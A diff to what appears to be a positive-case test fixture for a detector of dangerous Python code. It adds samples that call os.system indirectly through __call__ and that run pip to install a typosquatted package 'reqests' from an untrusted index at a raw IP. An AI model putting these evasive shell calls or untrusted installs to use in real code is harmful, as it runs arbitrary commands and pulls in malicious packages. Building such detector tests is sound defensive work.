@@ -115,3 +115,9 @@ timeit.timeit("__import__('os').system('id')", number=1)
 #@ pos a shell inside cProfile.Profile().run's command
 import cProfile
 cProfile.Profile().run("import os; os.system('id')")
+#@ pos os.system called through __call__
+import os
+os.system.__call__("id")
+#@ pos pip run as a library, from another index
+from pip._internal.cli.main import main
+main(["install", "--index-url", "http://203.0.113.7/simple", "reqests"])
